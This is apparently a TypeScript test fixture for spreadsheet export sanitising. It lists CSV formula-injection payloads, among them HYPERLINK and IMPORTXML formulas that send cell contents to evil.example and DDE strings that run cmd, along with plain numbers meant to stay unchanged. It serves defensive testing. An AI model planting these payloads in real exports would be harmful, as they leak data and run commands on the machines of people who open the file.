// Spreadsheet formula-injection payloads (OWASP "CSV Injection" and the classic DDE examples), and
// plain numbers that must stay numbers. Shared by the export tests.

export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  '=1+1',
  '=cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=DDE("cmd";"/C calc";"!A0")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '+1-1+cmd',
  '-1+1',
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '=-1',
  '-=1'
] as const;

/** Cells that look like formulas at a glance but are plain numbers: they stay exactly as written. */
export const PLAIN_NUMBERS = ['-12.5', '+7', '-0', '3.14', '1e3', '-1E-3', '.5', '42'] as const;
